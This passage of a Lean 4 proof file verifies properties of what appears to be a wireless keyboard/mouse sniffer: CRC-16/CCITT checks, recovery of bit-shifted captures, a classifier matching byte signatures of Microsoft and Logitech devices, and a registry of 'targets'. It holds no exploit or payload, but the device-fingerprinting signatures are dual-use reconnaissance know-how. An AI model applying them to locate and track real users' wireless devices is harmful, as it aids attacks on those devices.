      suf.foldl (fun crc b => crcUpdate crc b 8) (crcSpecBits seed (pre ++ suf) (8 * pre.length)) =
        crcSpecBits seed (pre ++ suf) (8 * (pre ++ suf).length) := by
  intro suf
  induction suf with
  | nil => intro pre _; simp
  | cons a rest ih =>
    intro pre hb
    have e : pre ++ a :: rest = (pre ++ [a]) ++ rest := by simp
    have ha : a < 256 := hb a (by simp)
    have hget : (pre ++ a :: rest).getD pre.length 0 = a := by
      rw [List.getD_eq_getElem?_getD, List.getElem?_append_right (le_refl _)]
      simp
    rw [List.foldl_cons, crcUpdate_byte _ _ (crcSpecBits_lt seed _ hs _) ha]
    have h8 := crcSpecBits_byte seed (pre ++ a :: rest) pre.length 8 (le_refl 8)
    rw [hget] at h8
    rw [← h8]
    have ih' := ih (pre ++ [a]) (by rw [← e]; exact hb)
    rw [← e] at ih'
    have el : 8 * (pre ++ [a]).length = 8 * pre.length + 8 := by simp; ring
    rw [el] at ih'
    exact ih'

/-- C3. `crcUpdate(seed, byte, k)` is the register obtained by XOR-ing the byte into the top
8 bits of the seed and applying `k` most-significant-bit-first shift steps with polynomial
0x1021, truncated to 16 bits (for every seed, byte and bit count, in particular for 16-bit
seeds and `k` in 1..8); folding `crcUpdate` at 8 bits per byte over a byte sequence
from seed 0xFFFF is the bit-serial CRC-16/CCITT of that sequence; for the ASCII bytes of
"123456789" the result is 0x29B1. -/
theorem crcUpdate_is_ccitt (seed byte k : Nat) (bytes : List Nat) (hbytes : ∀ b ∈ bytes, b < 256) :
    crcUpdate seed byte k = crcSpecRegister seed byte k ∧
    bytes.foldl (fun crc b => crcUpdate crc b 8) 0xFFFF =
      crcSpecBits 0xFFFF bytes (8 * bytes.length) ∧
    [0x31, 0x32, 0x33, 0x34, 0x35, 0x36, 0x37, 0x38, 0x39].foldl
      (fun crc b => crcUpdate crc b 8) 0xFFFF = 0x29B1 := by
  refine ⟨crcUpdate_eq_register seed byte k, ?_, by decide⟩
  have h := crc_foldl_suffix 0xFFFF (by norm_num) bytes [] (by simpa using hbytes)
  simpa using h

theorem crcUpdate_is_ccitt_witness :
    crcUpdate 0xFFFF 0x31 8 = crcSpecRegister 0xFFFF 0x31 8 ∧
    [0x31, 0x32, 0x33].foldl (fun crc b => crcUpdate crc b 8) 0xFFFF =
      crcSpecBits 0xFFFF [0x31, 0x32, 0x33] (8 * [0x31, 0x32, 0x33].length) ∧
    crcUpdate 0xFFFF 0x31 8 = 0xC782 :=
  ⟨(crcUpdate_is_ccitt 0xFFFF 0x31 8 [0x31, 0x32, 0x33] (by decide)).1,
   (crcUpdate_is_ccitt 0xFFFF 0x31 8 [0x31, 0x32, 0x33] (by decide)).2.1,
   by decide⟩

/-! ## Single-bit errors are detected -/

theorem crcShift_eq_zero (z : Nat) (hz : z < 65536) (h : crcShift z = 0) : z = 0 := by
  rw [crcShift_eq] at h
  by_cases hb : z / 32768 % 2 = 1
  · rw [if_pos hb] at h
    have hodd : ((2 * z % 65536) ^^^ 0x1021) % 2 = 1 := by
      rw [Nat.xor_mod_two_eq_one]
      intro hiff
      have : (2 * z % 65536) % 2 = 1 := hiff.2 (by norm_num)
      omega
    rw [h] at hodd
    exact absurd hodd (by norm_num)
  · rw [if_neg hb, Nat.xor_zero] at h
    omega

theorem xor_eq_zero_imp (x y : Nat) (h : x ^^^ y = 0) : x = y := by
  have h2 : x ^^^ (x ^^^ y) = x ^^^ 0 := by rw [h]
  rw [Nat.xor_cancel_left, Nat.xor_zero] at h2
  exact h2.symm

/-- The shift step is injective on 16-bit registers. -/
theorem crcShift_injective (x y : Nat) (hx : x < 65536) (hy : y < 65536)
    (h : crcShift x = crcShift y) : x = y := by
  apply xor_eq_zero_imp
  apply crcShift_eq_zero _ (by simpa using Nat.xor_lt_two_pow (n := 16) (by simpa using hx) (by simpa using hy))
  rw [crcShift_xor, h, Nat.xor_self]

theorem crcSpecBit_injective (x y : Nat) (b : Bool) (hx : x < 65536) (hy : y < 65536)
    (h : crcSpecBit x b = crcSpecBit y b) : x = y := by
  rw [crcSpecBit_eq_shift, crcSpecBit_eq_shift] at h
  have hb : b.toNat * 32768 < 2 ^ 16 := by cases b <;> simp
  have h2 := crcShift_injective _ _
    (by simpa using Nat.xor_lt_two_pow (n := 16) (by simpa using hx) hb)
    (by simpa using Nat.xor_lt_two_pow (n := 16) (by simpa using hy) hb) h
  exact Nat.xor_left_injective h2

theorem crcSpecBit_flip_ne (x : Nat) (b : Bool) (hx : x < 65536) :
    crcSpecBit x (!b) ≠ crcSpecBit x b := by
  intro h
  rw [crcSpecBit_eq_shift, crcSpecBit_eq_shift] at h
  have hb : ∀ c : Bool, c.toNat * 32768 < 2 ^ 16 := by intro c; cases c <;> simp
  have h2 := crcShift_injective _ _
    (by simpa using Nat.xor_lt_two_pow (n := 16) (by simpa using hx) (hb (!b)))
    (by simpa using Nat.xor_lt_two_pow (n := 16) (by simpa using hx) (hb b)) h
  have h3 := Nat.xor_right_injective h2
  cases b <;> simp at h3

/-- Two buffers that differ in exactly one of their first `N` bits have different CRCs. -/
theorem crcSpecBits_flip_ne (seed : Nat) (hs : seed < 65536) (buf buf2 : List Nat) (p : Nat)
    (hsame : ∀ q, q ≠ p → bitAt buf2 q = bitAt buf q) (hflip : bitAt buf2 p = !bitAt buf p) :
    ∀ N : Nat, (N ≤ p → crcSpecBits seed buf2 N = crcSpecBits seed buf N) ∧
      (p < N → crcSpecBits seed buf2 N ≠ crcSpecBits seed buf N) := by
  intro N
  induction N with
  | zero => exact ⟨fun _ => rfl, fun h => absurd h (Nat.not_lt_zero _)⟩
  | succ N ih =>
    constructor
    · intro h
      rw [crcSpecBits, crcSpecBits, ih.1 (by omega), hsame N (by omega)]
    · intro h
      rw [crcSpecBits, crcSpecBits]
      by_cases hN : N = p
      · subst hN
        rw [ih.1 (le_refl _), hflip]
        exact crcSpecBit_flip_ne _ _ (crcSpecBits_lt seed buf hs _)
      · rw [hsame N hN]
        intro heq
        exact ih.2 (by omega)
          (crcSpecBit_injective _ _ _ (crcSpecBits_lt seed buf2 hs _) (crcSpecBits_lt seed buf hs _) heq)

theorem shr_128 (m : Nat) (hm : m < 8) : 128 >>> m = 2 ^ (7 - m) := by
  interval_cases m <;> rfl

theorem flipBit_getD (buf : List Nat) (p i : Nat) (hp : p / 8 < buf.length) :
    (flipBit buf p).getD i 0 =
      if i = p / 8 then buf.getD (p / 8) 0 ^^^ (128 >>> (p % 8)) else buf.getD i 0 := by
  unfold flipBit
  rw [getD_set_eq]
  by_cases h : i = p / 8
  · rw [if_pos ⟨h, hp⟩, if_pos h]
  · rw [if_neg (fun hh => h hh.1), if_neg h]

theorem bitAt_flipBit (buf : List Nat) (p q : Nat) (hp : p / 8 < buf.length) :
    bitAt (flipBit buf p) q = if q = p then !bitAt buf p else bitAt buf q := by
  unfold bitAt
  rw [flipBit_getD buf p (q / 8) hp]
  by_cases h8 : q / 8 = p / 8
  · rw [if_pos h8, Nat.testBit_xor, shr_128 _ (Nat.mod_lt _ (by norm_num)), Nat.testBit_two_pow, h8]
    by_cases hq : q = p
    · subst hq
      simp
    · have hne : ¬ (7 - p % 8 = 7 - q % 8) := by omega
      simp [hq, hne]
  · have hq : q ≠ p := fun e => h8 (by rw [e])
    rw [if_neg h8, if_neg hq]

theorem flipBit_lt (buf : List Nat) (p : Nat) (hb : ∀ i, buf.getD i 0 < 256) :
    ∀ i, (flipBit buf p).getD i 0 < 256 := by
  intro i
  unfold flipBit
  apply set_getD_lt buf hb
  have h1 : 128 >>> (p % 8) < 2 ^ 8 := by
    rw [shr_128 _ (Nat.mod_lt _ (by norm_num))]
    exact Nat.pow_lt_pow_right (by norm_num) (by omega)
  simpa using Nat.xor_lt_two_pow (n := 8) (by simpa using hb (p / 8)) h1

theorem bitsValue_congr (b1 b2 : List Nat) (start : Nat)
    (h : ∀ q, start ≤ q → bitAt b1 q = bitAt b2 q) :
    ∀ len, bitsValue b1 start len = bitsValue b2 start len := by
  intro len
  induction len with
  | zero => rfl
  | succ len ih => rw [bitsValue, bitsValue, ih, h _ (by omega)]

theorem fingerprintTrial_none_of_ne (buf : List Nat) (n : Nat)
    (h : crcCalc buf (buf.getD 5 0 >>> 2) ≠ crcGiven buf (buf.getD 5 0 >>> 2)) :
    fingerprintTrial buf n = none := by
  unfold fingerprintTrial
  simp only
  by_cases h1 : (buf.getD 5 0 >>> 2 = 0 ∨ ((buf.getD 5 0 >>> 2 : Nat) : Int) > (n : Int) - 9)
  · rw [if_pos h1]
  · rw [if_neg h1, if_pos h]

/-- C4. If an aligned buffer validates in an alignment trial with length field `L`,
flipping any single payload bit (bit positions `49 .. 48 + 8 L`, most-significant first)
gives a buffer that no longer validates in the same trial: the length field and the
extracted CRC are unchanged while the expected CRC over the covered span changes. -/
theorem payload_bit_flip_rejected (buf : List Nat) (n p : Nat)
    (hlen : buf.length = n) (hbytes : ∀ b ∈ buf, b < 256)
    (hvalid : (fingerprintTrial buf n).isSome = true)
    (hp1 : 49 ≤ p) (hp2 : p ≤ 48 + 8 * (buf.getD 5 0 >>> 2)) :
    (flipBit buf p).getD 5 0 >>> 2 = buf.getD 5 0 >>> 2 ∧
    crcGiven (flipBit buf p) (buf.getD 5 0 >>> 2) = crcGiven buf (buf.getD 5 0 >>> 2) ∧
    crcCalc (flipBit buf p) (buf.getD 5 0 >>> 2) ≠ crcCalc buf (buf.getD 5 0 >>> 2) ∧
    fingerprintTrial (flipBit buf p) n = none := by
  obtain ⟨hL, hcrc⟩ := (isSome_fingerprintTrial buf n).1 hvalid
  have hb : ∀ i, buf.getD i 0 < 256 := getD_lt_of_forall buf hbytes
  have hb2 := flipBit_lt buf p hb
  have hp8 : p / 8 < buf.length := by omega
  have h5 : (flipBit buf p).getD 5 0 = buf.getD 5 0 := by
    rw [flipBit_getD buf p 5 hp8, if_neg (by omega)]
  have hgiven : crcGiven (flipBit buf p) (buf.getD 5 0 >>> 2) = crcGiven buf (buf.getD 5 0 >>> 2) := by
    rw [crcGiven_eq _ _ hb2, crcGiven_eq _ _ hb]
    rw [bitsValue_congr (flipBit buf p) buf _ (fun q hq => by
      rw [bitAt_flipBit buf p q hp8, if_neg (by omega)]) 16]
  have hcalc : crcCalc (flipBit buf p) (buf.getD 5 0 >>> 2) ≠ crcCalc buf (buf.getD 5 0 >>> 2) := by
    rw [crcCalc_eq, crcCalc_eq]
    have hraw : crcCalcRaw (flipBit buf p) (buf.getD 5 0 >>> 2) ≠ crcCalcRaw buf (buf.getD 5 0 >>> 2) := by
      rw [crcCalcRaw_eq_bits _ _ hb2, crcCalcRaw_eq_bits _ _ hb]
      exact (crcSpecBits_flip_ne 0xFFFF (by norm_num) buf (flipBit buf p) p
        (fun q hq => by rw [bitAt_flipBit buf p q hp8, if_neg hq])
        (by rw [bitAt_flipBit buf p p hp8, if_pos rfl]) _).2 (by omega)
    have h1 := crcCalcRaw_lt (flipBit buf p) (buf.getD 5 0 >>> 2)
    have h2 := crcCalcRaw_lt buf (buf.getD 5 0 >>> 2)
    omega
  refine ⟨by rw [h5], hgiven, hcalc, ?_⟩
  apply fingerprintTrial_none_of_ne
  rw [h5, hgiven, ← hcrc]
  exact hcalc

theorem payload_bit_flip_rejected_witness :
    (fingerprintTrial [18, 52, 86, 120, 154, 4, 85, 233, 22, 0] 10).isSome = true ∧
    flipBit [18, 52, 86, 120, 154, 4, 85, 233, 22, 0] 50 = [18, 52, 86, 120, 154, 4, 117, 233, 22, 0] ∧
    fingerprintTrial (flipBit [18, 52, 86, 120, 154, 4, 85, 233, 22, 0] 50) 10 = none :=
  ⟨by decide, by decide,
    (payload_bit_flip_rejected [18, 52, 86, 120, 154, 4, 85, 233, 22, 0] 10 50 (by decide) (by decide)
      (by decide) (by decide) (by decide)).2.2.2⟩

/-! ## A capture shifted by one bit -/

theorem shiftLeftOne_length (F : List Nat) (next : Nat) : (shiftLeftOne F next).length = F.length := by
  unfold shiftLeftOne
  rw [List.length_map, List.length_range]

theorem shiftLeftOne_getD (F : List Nat) (next i : Nat) (hi : i < F.length) :
    (shiftLeftOne F next).getD i 0 =
      (2 * F.getD i 0) % 256 + (F ++ [next]).getD (i + 1) 0 / 128 := by
  have hlen : i < (shiftLeftOne F next).length := by rw [shiftLeftOne_length]; exact hi
  rw [List.getD_eq_getElem _ 0 hlen]
  unfold shiftLeftOne
  rw [List.getElem_map, List.getElem_range]

theorem append_getD_lt (F : List Nat) (next : Nat) (hF : ∀ i, F.getD i 0 < 256) (hn : next < 256)
    (i : Nat) : (F ++ [next]).getD i 0 < 256 := by
  apply getD_lt_of_forall
  intro b hb
  rcases List.mem_append.1 hb with h | h
  · obtain ⟨j, hj, rfl⟩ := List.getElem_of_mem h
    have := hF j
    rwa [List.getD_eq_getElem _ 0 hj] at this
  · rw [List.mem_singleton] at h
    omega

theorem append_getD_left (F : List Nat) (next i : Nat) (hi : i < F.length) :
    (F ++ [next]).getD i 0 = F.getD i 0 := by
  rw [List.getD_eq_getElem?_getD, List.getD_eq_getElem?_getD, List.getElem?_append_left hi]

/-- Arithmetic of line 239 applied to two consecutive bytes of the shifted capture. -/
theorem unshift_arith (f0 f1 f2 : Nat) (h1 : f1 < 256) (h2 : f2 < 256) :
    ((((2 * f0) % 256 + f1 / 128) <<< 7) ||| (((2 * f1) % 256 + f2 / 128) >>> 1)) % 256 = f1 := by
  have e1 : ((2 * f0) % 256 + f1 / 128) <<< 7 = 2 ^ 7 * ((2 * f0) % 256 + f1 / 128) := by
    rw [Nat.shiftLeft_eq]; ring
  have e2 : ((2 * f1) % 256 + f2 / 128) >>> 1 = f1 % 128 := by
    rw [Nat.shiftRight_eq_div_pow]; omega
  have e3 : f1 % 128 < 2 ^ 7 := by norm_num; omega
  rw [e1, e2, ← Nat.mul_add_lt_is_or e3]
  omega

/-- The second pass applied to the shifted capture gives the frame back, except for
the top bit of its first byte, which the capture does not hold. -/
theorem alignedBuf_shiftLeftOne (F : List Nat) (n next : Nat) (hlen : F.length = n)
    (hF : ∀ b ∈ F, b < 256) (hnext : next < 256) (i : Nat) :
    (alignedBuf (shiftLeftOne F next) n 1).getD i 0 =
      if i = 0 then F.getD 0 0 % 128 else F.getD i 0 := by
  have hb := getD_lt_of_forall F hF
  have hb2 := append_getD_lt F next hb hnext
  unfold alignedBuf
  simp only
  rw [if_pos trivial]
  have htake : (shiftLeftOne F next).take n = shiftLeftOne F next := by
    apply List.take_of_length_le
    rw [shiftLeftOne_length, hlen]
  rw [htake, shiftRightLoop_getD n _ i (by rw [shiftLeftOne_length, hlen])]
  by_cases hi : i < n
  · rw [if_pos hi]
    by_cases h0 : i > 0
    · rw [if_pos h0, if_neg (by omega), shiftLeftOne_getD F next (i - 1) (by omega),
        shiftLeftOne_getD F next i (by omega)]
      have e : i - 1 + 1 = i := by omega
      rw [e, append_getD_left F next i (by omega)]
      exact unshift_arith _ _ _ (hb i) (hb2 (i + 1))
    · have hi0 : i = 0 := by omega
      subst hi0
      rw [if_neg h0, if_pos rfl, shiftLeftOne_getD F next 0 (by omega), Nat.shiftRight_eq_div_pow,
        Nat.zero_add, pow_one]
      have := hb 0
      have := hb2 1
      omega
  · rw [if_neg hi, List.getD_eq_default _ 0 (by rw [shiftLeftOne_length]; omega)]
    by_cases h0 : i = 0
    · subst h0
      rw [if_pos rfl, List.getD_eq_default _ 0 (by omega)]
    · rw [if_neg h0, List.getD_eq_default _ 0 (by omega)]

theorem list_eq_of_getD (l1 l2 : List Nat) (hlen : l1.length = l2.length)
    (h : ∀ i, l1.getD i 0 = l2.getD i 0) : l1 = l2 := by
  apply List.ext_getElem hlen
  intro i h1 h2
  have := h i
  rwa [List.getD_eq_getElem _ 0 h1, List.getD_eq_getElem _ 0 h2] at this

/-- C5 (amended). For every buffer `F` of `n` bytes (in particular `10 ≤ n ≤ 37`) whose
first byte has its most significant bit clear, on which the offset-0 trial validates with
address `A` and payload `P`: for the capture of the same size obtained by shifting `F` left
by one bit across the whole buffer (whatever bit enters the last byte), the offset-1 trial
validates and yields the identical address and payload. -/
theorem shifted_capture_recovered (F : List Nat) (n next : Nat) (A P : List Nat) (L : Nat)
    (hlen : F.length = n) (hF : ∀ b ∈ F, b < 256) (hnext : next < 256)
    (htop : F.getD 0 0 < 128)
    (h : fingerprintTrial (alignedBuf F n 0) n = some (A, P, L)) :
    fingerprintTrial (alignedBuf (shiftLeftOne F next) n 1) n = some (A, P, L) := by
  have h0 : alignedBuf F n 0 = F := by
    unfold alignedBuf
    simp only
    rw [if_neg (by norm_num)]
    exact List.take_of_length_le (by omega)
  have h1 : alignedBuf (shiftLeftOne F next) n 1 = F := by
    apply list_eq_of_getD
    · rw [alignedBuf_length, shiftLeftOne_length]; omega
    · intro i
      rw [alignedBuf_shiftLeftOne F n next hlen hF hnext i]
      split
      · next hi => subst hi; omega
      · rfl
  rw [h1]
  rw [h0] at h
  exact h

theorem shifted_capture_recovered_witness :
    shiftLeftOne [18, 52, 86, 120, 154, 4, 85, 233, 22, 0] 0 =
      [36, 104, 172, 241, 52, 8, 171, 210, 44, 0] ∧
    fingerprintTrial (alignedBuf [18, 52, 86, 120, 154, 4, 85, 233, 22, 0] 10 0) 10 =
      some ([18, 52, 86, 120, 154], [171], 1) ∧
    fingerprintTrial (alignedBuf (shiftLeftOne [18, 52, 86, 120, 154, 4, 85, 233, 22, 0] 0) 10 1) 10 =
      some ([18, 52, 86, 120, 154], [171], 1) :=
  ⟨by decide, by decide,
    shifted_capture_recovered [18, 52, 86, 120, 154, 4, 85, 233, 22, 0] 10 0
      [18, 52, 86, 120, 154] [171] 1 (by decide) (by decide) (by decide) (by decide)
      (by decide)⟩

/-- C5 (counterexample). The frame below validates at offset 0 with address
`[0x80, 0, 0, 0, 0]` and payload `[1]`; its capture shifted left by one bit does not
validate at offset 1: the top bit of the first byte is not in the capture. -/
theorem shifted_capture_counterexample :
    [128, 0, 0, 0, 0, 4, 0, 150, 243, 0].length = 10 ∧
    (∀ b ∈ [128, 0, 0, 0, 0, 4, 0, 150, 243, 0], b < 256) ∧
    fingerprintTrial (alignedBuf [128, 0, 0, 0, 0, 4, 0, 150, 243, 0] 10 0) 10 =
      some ([128, 0, 0, 0, 0], [1], 1) ∧
    shiftLeftOne [128, 0, 0, 0, 0, 4, 0, 150, 243, 0] 0 = [0, 0, 0, 0, 0, 8, 1, 45, 230, 0] ∧
    alignedBuf (shiftLeftOne [128, 0, 0, 0, 0, 4, 0, 150, 243, 0] 0) 10 1 =
      [0, 0, 0, 0, 0, 4, 0, 150, 243, 0] ∧
    fingerprintTrial (alignedBuf (shiftLeftOne [128, 0, 0, 0, 0, 4, 0, 150, 243, 0] 0) 10 1) 10 =
      none := by
  decide

/-! ## The device classifier -/

/-- The decision of `fingerprintPayload` in terms of the three bytes it reads. -/
theorem fingerprintPayloadType_cases (payload : List Nat) (size : Nat) :
    fingerprintPayloadType payload size =
      if size = 19 ∧ payload.getD 0 0 = 0x08 ∧ payload.getD 6 0 = 0x40 then
        some MjDeviceType.MJ_DEVICE_MICROSOFT
      else if size = 19 ∧ payload.getD 0 0 = 0x0A then some MjDeviceType.MJ_DEVICE_MS_CRYPT
      else if payload.getD 0 0 = 0x00 ∧
          ((size = 10 ∧ (payload.getD 1 0 = 0xC2 ∨ payload.getD 1 0 = 0x4F)) ∨
            (size = 22 ∧ payload.getD 1 0 = 0xD3) ∨ (size = 5 ∧ payload.getD 1 0 = 0x40)) then
        some MjDeviceType.MJ_DEVICE_LOGITECH
      else none := by
  unfold fingerprintPayloadType
  generalize payload.getD 0 0 = p0
  generalize payload.getD 1 0 = p1
  generalize payload.getD 6 0 = p6
  by_cases h19 : size = 19
  · subst h19
    by_cases h8 : p0 = 0x08
    · subst h8
      by_cases h6 : p6 = 0x40
      · simp [h6]
      · simp [h6]
    · by_cases hA : p0 = 0x0A
      · subst hA
        simp
      · by_cases h0 : p0 = 0
        · subst h0
          simp
        · simp [h8, hA, h0]
  · by_cases h0 : p0 = 0
    · subst h0
      by_cases h10 : size = 10
      · subst h10
        by_cases hc : p1 = 0xC2 ∨ p1 = 0x4F
        · simp [hc]
        · simp [hc]
      · by_cases h22 : size = 22
        · subst h22
          by_cases hd : p1 = 0xD3
          · simp [hd]
          · simp [hd]
        · by_cases h5 : size = 5
          · subst h5
            by_cases h4 : p1 = 0x40
            · simp [h4]
            · simp [h4]
          · simp [h19, h10, h22, h5]
    · simp [h19, h0]

/-- C6. `fingerprintPayload` classifies a payload as MicrosoftPlain exactly when
`length == 19`, `payload[0] == 0x08` and `payload[6] == 0x40`; as MicrosoftEncrypted exactly
when `length == 19` and `payload[0] == 0x0A`; as Logitech exactly when `payload[0] == 0x00`
and (`length == 10` with `payload[1]` in `{0xC2, 0x4F}`, or `length == 22` with
`payload[1] == 0xD3`, or `length == 5` with `payload[1] == 0x40`); and as nothing in every
other case (the registry is then untouched). The three classes are mutually exclusive.
`[0x08,0,0,0,0,0,0x40,...]` of length 19 is MicrosoftPlain, `[0x00,0xC2,...]` of length 10
is Logitech, `[0x00,0x99,...]` of length 10 is unclassified. -/
theorem fingerprintPayload_classification (payload : List Nat) (size : Nat) :
    (fingerprintPayloadType payload size = some MjDeviceType.MJ_DEVICE_MICROSOFT ↔
      size = 19 ∧ payload.getD 0 0 = 0x08 ∧ payload.getD 6 0 = 0x40) ∧
    (fingerprintPayloadType payload size = some MjDeviceType.MJ_DEVICE_MS_CRYPT ↔
      size = 19 ∧ payload.getD 0 0 = 0x0A) ∧
    (fingerprintPayloadType payload size = some MjDeviceType.MJ_DEVICE_LOGITECH ↔
      payload.getD 0 0 = 0x00 ∧
        ((size = 10 ∧ (payload.getD 1 0 = 0xC2 ∨ payload.getD 1 0 = 0x4F)) ∨
          (size = 22 ∧ payload.getD 1 0 = 0xD3) ∨ (size = 5 ∧ payload.getD 1 0 = 0x40))) ∧
    (fingerprintPayloadType payload size = none ↔
      ¬ (size = 19 ∧ payload.getD 0 0 = 0x08 ∧ payload.getD 6 0 = 0x40) ∧
      ¬ (size = 19 ∧ payload.getD 0 0 = 0x0A) ∧
      ¬ (payload.getD 0 0 = 0x00 ∧
        ((size = 10 ∧ (payload.getD 1 0 = 0xC2 ∨ payload.getD 1 0 = 0x4F)) ∨
          (size = 22 ∧ payload.getD 1 0 = 0xD3) ∨ (size = 5 ∧ payload.getD 1 0 = 0x40)))) ∧
    fingerprintPayloadType payload size ≠ some MjDeviceType.MJ_DEVICE_UNKNOWN ∧
    ¬ ((size = 19 ∧ payload.getD 0 0 = 0x08 ∧ payload.getD 6 0 = 0x40) ∧
        (size = 19 ∧ payload.getD 0 0 = 0x0A)) ∧
    ¬ ((size = 19 ∧ payload.getD 0 0 = 0x08 ∧ payload.getD 6 0 = 0x40) ∧ payload.getD 0 0 = 0x00) ∧
    ¬ ((size = 19 ∧ payload.getD 0 0 = 0x0A) ∧ payload.getD 0 0 = 0x00) ∧
    (∀ (k : MjConsts) (addr : List Nat) (channel : Nat) (s : State),
      fingerprintPayload k payload size addr channel s =
        match fingerprintPayloadType payload size with
        | some t => (addTarget k addr 5 channel t s).2
        | none => s) ∧
    (∀ rest : List Nat,
      fingerprintPayloadType ([0x08, 0, 0, 0, 0, 0, 0x40] ++ rest) 19 =
        some MjDeviceType.MJ_DEVICE_MICROSOFT ∧
      fingerprintPayloadType ([0x00, 0xC2] ++ rest) 10 = some MjDeviceType.MJ_DEVICE_LOGITECH ∧
      fingerprintPayloadType ([0x00, 0x99] ++ rest) 10 = none) := by
  refine ⟨?_, ?_, ?_, ?_, ?_, by omega, by omega, by omega, fun _ _ _ _ => rfl,
    fun rest => ⟨?_, ?_, ?_⟩⟩
  · rw [fingerprintPayloadType_cases]
    generalize payload.getD 0 0 = p0
    generalize payload.getD 6 0 = p6
    split_ifs <;> simp_all
  · rw [fingerprintPayloadType_cases]
    generalize payload.getD 0 0 = p0
    generalize payload.getD 6 0 = p6
    split_ifs <;> simp_all
  · rw [fingerprintPayloadType_cases]
    generalize payload.getD 0 0 = p0
    generalize payload.getD 1 0 = p1
    generalize payload.getD 6 0 = p6
    split_ifs <;> simp_all
  · rw [fingerprintPayloadType_cases]
    generalize payload.getD 0 0 = p0
    generalize payload.getD 1 0 = p1
    generalize payload.getD 6 0 = p6
    split_ifs <;> simp_all
  · rw [fingerprintPayloadType_cases]
    split_ifs <;> simp
  · rw [fingerprintPayloadType_cases]; simp
  · rw [fingerprintPayloadType_cases]; simp
  · rw [fingerprintPayloadType_cases]; simp

/-! ## The target registry -/

theorem getD_set_target (l : List MjTarget) (n : Nat) (v : MjTarget) (i : Nat) :
    (l.set n v).getD i zeroTarget = if i = n ∧ n < l.length then v else l.getD i zeroTarget := by
  simp only [List.getD_eq_getElem?_getD, List.getElem?_set]
  by_cases h : n = i
  · subst h
    by_cases h2 : n < l.length
    · simp [h2]
    · simp [h2, List.getElem?_eq_none (Nat.le_of_not_lt h2)]
  · have h' : ¬ i = n := fun e => h e.symm
    simp [h, h']

/-- What the loop of `findTarget` returns: -1 when no index in `[i, i + fuel)` matches,
otherwise the first matching index. -/
theorem findTargetLoop_spec (s : State) (addr : List Nat) (addrLen : Nat) :
    ∀ fuel i : Nat,
      (findTargetLoop s addr addrLen fuel i = -1 ∧
        ∀ j, i ≤ j → j < i + fuel → targetMatches s addr addrLen j = false) ∨
      (∃ j : Nat, findTargetLoop s addr addrLen fuel i = (j : Int) ∧ i ≤ j ∧ j < i + fuel ∧
        targetMatches s addr addrLen j = true ∧
        ∀ j', i ≤ j' → j' < j → targetMatches s addr addrLen j' = false) := by
  intro fuel
  induction fuel with
  | zero =>
    intro i
    left
    exact ⟨rfl, fun j h1 h2 => absurd h2 (by omega)⟩
  | succ fuel ih =>
    intro i
    rw [findTargetLoop]
    by_cases hm : targetMatches s addr addrLen i = true
    · right
      rw [if_pos hm]
      exact ⟨i, rfl, le_refl _, by omega, hm, fun j' h1 h2 => absurd h2 (by omega)⟩
    · rw [if_neg hm]
      have hm' : targetMatches s addr addrLen i = false := by simpa using hm
      rcases ih (i + 1) with ⟨h1, h2⟩ | ⟨j, h1, h2, h3, h4, h5⟩
      · left
        refine ⟨h1, fun j hj1 hj2 => ?_⟩
        by_cases hji : j = i
        · rw [hji]; exact hm'
        · exact h2 j (by omega) (by omega)
      · right
        refine ⟨j, h1, by omega, by omega, h4, fun j' hj1 hj2 => ?_⟩
        by_cases hji : j' = i
        · rw [hji]; exact hm'
        · exact h5 j' (by omega) hj2

/-- `findTarget` returns `i` exactly when `i` is the first matching index below the count. -/
theorem findTarget_eq_iff (s : State) (addr : List Nat) (addrLen i : Nat) :
    findTarget s addr addrLen = (i : Int) ↔
      (i < s.targetCount_ ∧ targetMatches s addr addrLen i = true ∧
        ∀ j, j < i → targetMatches s addr addrLen j = false) := by
  unfold findTarget
  rcases findTargetLoop_spec s addr addrLen s.targetCount_ 0 with ⟨h1, h2⟩ | ⟨j, h1, _, h3, h4, h5⟩
  · rw [h1]
    constructor
    · intro h; omega
    · rintro ⟨hi, hm, _⟩
      rw [h2 i (by omega) (by omega)] at hm
      exact Bool.noConfusion hm
  · rw [h1]
    constructor
    · intro h
      have hji : j = i := by omega
      subst hji
      exact ⟨by omega, h4, fun j' hj => h5 j' (by omega) hj⟩
    · rintro ⟨hi, hm, hfirst⟩
      have hji : j = i := by
        rcases Nat.lt_trichotomy j i with hlt | heq | hgt
        · rw [hfirst j hlt] at h4; exact Bool.noConfusion h4
        · exact heq
        · rw [h5 i (by omega) hgt] at hm; exact Bool.noConfusion hm
      rw [hji]

/-- `findTarget` returns -1 exactly when no index below the count matches. -/
theorem findTarget_eq_neg_one_iff (s : State) (addr : List Nat) (addrLen : Nat) :
    findTarget s addr addrLen = -1 ↔
      ∀ j, j < s.targetCount_ → targetMatches s addr addrLen j = false := by
  unfold findTarget
  rcases findTargetLoop_spec s addr addrLen s.targetCount_ 0 with ⟨h1, h2⟩ | ⟨j, h1, _, h3, h4, _⟩
  · rw [h1]
    exact ⟨fun _ j hj => h2 j (by omega) (by omega), fun _ => rfl⟩
  · rw [h1]
    constructor
    · intro h; omega
    · intro h
      rw [h j (by omega)] at h4
      exact Bool.noConfusion h4

theorem findTarget_cases (s : State) (addr : List Nat) (addrLen : Nat) :
    findTarget s addr addrLen = -1 ∨
      ∃ i : Nat, findTarget s addr addrLen = (i : Int) ∧ i < s.targetCount_ := by
  unfold findTarget
  rcases findTargetLoop_spec s addr addrLen s.targetCount_ 0 with ⟨h1, _⟩ | ⟨j, h1, _, h3, _, _⟩
  · left; exact h1
  · right; exact ⟨j, h1, by omega⟩

theorem addTarget_found (k : MjConsts) (addr : List Nat) (addrLen channel : Nat)
    (type : MjDeviceType) (s : State) (i : Nat) (h : findTarget s addr addrLen = (i : Int)) :
    addTarget k addr addrLen channel type s =
      ((i : Int), { s with targets_ := s.targets_.set i { targetAt s i with channel := channel } }) := by
  unfold addTarget
  simp only
  rw [h, if_pos (by omega : (i : Int) ≥ 0), Int.toNat_ofNat]

theorem addTarget_full (k : MjConsts) (addr : List Nat) (addrLen channel : Nat)
    (type : MjDeviceType) (s : State) (h : findTarget s addr addrLen = -1)
    (hfull : s.targetCount_ ≥ k.MJ_MAX_TARGETS) :
    addTarget k addr addrLen channel type s = (-1, s) := by
  unfold addTarget
  simp only
  rw [h, if_neg (by omega : ¬ ((-1 : Int) ≥ 0)), if_pos hfull]

theorem addTarget_new (k : MjConsts) (addr : List Nat) (addrLen channel : Nat)
    (type : MjDeviceType) (s : State) (h : findTarget s addr addrLen = -1)
    (hroom : s.targetCount_ < k.MJ_MAX_TARGETS) :
    addTarget k addr addrLen channel type s =
      ((s.targetCount_ : Int), { s with
        targetCount_ := (s.targetCount_ + 1) % 256,
